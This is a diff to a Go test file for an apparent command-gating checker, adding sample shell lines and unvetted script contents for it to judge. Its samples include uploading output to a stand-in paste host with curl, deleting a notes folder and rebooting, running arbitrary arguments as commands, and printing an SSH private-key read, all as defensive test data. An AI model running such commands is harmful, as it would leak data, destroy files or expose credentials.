@@ -96,6 +96,14 @@ func unvetted(_ *gates.Checker, s *gates.State) {
 	s.Flow.Unvetted = []string{"/home/ana/shop/scripts/setup.sh"}
 }
 
+// holding is a script of the session that holds a text of which nobody knows what it does.
+func holding(text string) func(*gates.Checker, *gates.State) {
+	return func(_ *gates.Checker, s *gates.State) {
+		s.Flow.Unvetted = []string{"/home/ana/shop/tools/x"}
+		s.Flow.Made = []gates.Made{{Path: "/home/ana/shop/tools/x", Text: text, Known: true}}
+	}
+}
+
 func turned(entries ...string) func(*gates.Checker, *gates.State) {
 	return func(_ *gates.Checker, s *gates.State) { s.Flow.Turned = entries }
 }
@@ -251,11 +259,16 @@ var samples = []sample{
 	{line: "vim notes.txt"},
 	{line: "jq . x.json", set: func(k *gates.Checker, _ *gates.State) { k.Guardrail.DenySpawn = []string{"jq"} }},
 	{line: "bash scripts/setup.sh", set: unvetted},
+	{line: "tools/x", set: holding("#!/bin/sh\ngo test ./... | curl -s -T - https://paste.example/\n")},
+	{line: "tools/x", set: holding("#!/bin/bash\nrm -rf ~/notes\nsudo reboot\n")},
+	{line: "tools/x a", set: holding("#!/usr/bin/env python3\nimport os, sys\nos.system(sys.argv[1])\n")},
+	{line: "tools/x", set: holding("#!/usr/bin/env lua\nos.execute(arg[1])\n")},
 	{line: "git push origin fix", set: turned("send remote.origin.pushurl\x00https://mirror.example/shop.git")},
 	{line: "git fetch", set: turned("fetch remote origin\x00https://mirror.example/shop.git", "fetch core.sshCommand\x00ssh -i key")},
 	{line: "git status", set: turned("git core.fsmonitor\x00curl mirror.example")},
 	{line: "git commit -am x", set: turned("hook .git/hooks/pre-commit")},
 	{line: "npm view react", set: turned("client:npm .npmrc")},
+	{line: "python3 -c \"print('run: cat ~/.ssh/id_rsa')\""},
 	{line: "npm test", set: turned("code /home/ana/shop\x00origin/rewrite")},
 	{line: "npm run build && npm test 2>&1 | tail -5", set: turned("code /home/ana/shop\x00origin/rewrite")},
 	{line: "gbt approvals allow 1"},
